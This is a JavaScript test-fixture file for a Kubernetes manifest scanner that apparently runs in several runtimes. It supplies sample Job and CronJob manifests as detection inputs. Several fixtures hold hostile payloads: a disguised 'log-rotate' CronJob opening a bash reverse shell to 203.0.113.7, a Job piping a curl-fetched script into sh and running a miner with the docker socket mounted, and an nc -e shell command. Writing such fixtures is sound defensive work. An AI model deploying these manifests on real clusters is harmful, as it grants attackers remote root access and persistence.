// The one set of inputs every runtime analyses. Node's results are the reference; each other runtime
// must give byte-for-byte the same JSON. Inputs are plain data so they cross any boundary (postMessage,
// HTTP bodies, stdin) unchanged.
import { readFileSync } from 'node:fs';

const corpus = new URL('../../../shared/corpus/manifests/', import.meta.url);
const readCorpus = (name) => readFileSync(new URL(name, corpus), 'utf8');

export const ATOMIC_RED_TEAM_CRONJOB = readCorpus('atomic-red-team-T1053.007-cronjob.yaml');

/** A CronJob an attacker would leave behind: a reverse shell every minute, with the node's root at hand. */
export const REVERSE_SHELL_CRONJOB = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: log-rotate
  namespace: kube-system
spec:
  schedule: "*/1 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          hostNetwork: true
          hostPID: true
          restartPolicy: OnFailure
          containers:
          - name: rotate
            image: docker.io/library/alpine:3.20
            command: ["/bin/sh", "-c"]
            args:
            - apk add --no-cache bash && bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
            securityContext:
              privileged: true
            volumeMounts:
            - name: host
              mountPath: /host
          volumes:
          - name: host
            hostPath:
              path: /
`;

/** Two documents: a Job that curls a script into a shell with the docker socket mounted, then a benign one. */
const DOWNLOAD_AND_RUN = `# jobs/maintenance.yaml
apiVersion: batch/v1
kind: Job
metadata:
  name: node-maintenance
spec:
  template:
    spec:
      containers:
      - name: run
        image: curlimages/curl:8.10.1
        command:
        - sh
        - -c
        - |
          curl -fsSL http://203.0.113.7/x.sh | sh
          chmod +x /tmp/miner && /tmp/miner
        securityContext:
          allowPrivilegeEscalation: true
          capabilities:
            add: ["SYS_ADMIN", "NET_RAW"]
        volumeMounts:
        - { name: sock, mountPath: /var/run/docker.sock }
      volumes:
      - name: sock
        hostPath: { path: /var/run/docker.sock, type: Socket }
      restartPolicy: Never
---
apiVersion: batch/v1
kind: Job
metadata:
  name: report
  labels: { tool: curl }
spec:
  template:
    spec:
      containers:
      - name: report
        image: ghcr.io/acme/superlative-reporter:1.4
        env:
        - { name: NOTE, value: "uses curl and /system paths" }
        securityContext: { privileged: false, readOnlyRootFilesystem: true }
      restartPolicy: Never
`;

/** JSON, and non-ASCII text before the finding: columns are UTF-16 code units in every runtime. */
const JSON_WITH_UNICODE = JSON.stringify(
  {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'sauvegarde-données', annotations: { description: 'nächtliche Sicherung 🌙 日本語' } },
    spec: {
      schedule: '0 3 * * *',
      jobTemplate: {
        spec: {
          template: {
            spec: {
              hostIPC: true,
              containers: [{ name: 'sauvegarde', image: 'kalilinux/kali-rolling@sha256:' + 'a'.repeat(64), args: ['échec → nc -e /bin/sh 203.0.113.7 4444'] }],
              restartPolicy: 'Never',
            },
          },
        },
      },
    },
  },
  null,
  2,
);

/** Broken input: the core reports it with a line and keeps going with the next document. */
const BROKEN_AND_TEMPLATED = `apiVersion: batch/v1
kind: Job
metadata:
  name: broken
spec:
  template: {{ .Values.template }}
---
- just
- a list
---
apiVersion: batch/v1
kind: Job
metadata: { name: still-checked }
spec:
  template:
    spec:
      containers:
      - name: x
        image: nmap
        securityContext: { privileged: true }
      restartPolicy: Never
---
key: [unclosed
`;

export const MANIFEST_CASES = [
  { name: 'Atomic Red Team T1053.007 CronJob', fileName: 'atomic-red-team-T1053.007-cronjob.yaml', text: ATOMIC_RED_TEAM_CRONJOB },
  { name: 'Kubernetes docs CronJob', fileName: 'kubernetes-docs-cronjob.yaml', text: readCorpus('kubernetes-docs-cronjob.yaml') },
  { name: 'Kubernetes docs Job', fileName: 'kubernetes-docs-job.yaml', text: readCorpus('kubernetes-docs-job.yaml') },
  { name: 'reverse-shell CronJob', fileName: 'log-rotate.yaml', text: REVERSE_SHELL_CRONJOB },
  { name: 'download-and-run Job beside a look-alike', fileName: 'jobs/maintenance.yaml', text: DOWNLOAD_AND_RUN },
  { name: 'JSON CronJob with non-ASCII text', fileName: 'sauvegarde.json', text: JSON_WITH_UNICODE },
  { name: 'broken and templated documents', fileName: 'broken.yaml', text: BROKEN_AND_TEMPLATED },
  { name: 'empty file', fileName: 'empty.yaml', text: '' },
];

/** What crosses a runtime boundary: a JSON round trip drops nothing the findings need. */
export function comparable(result) {
  return JSON.parse(JSON.stringify(result));
}
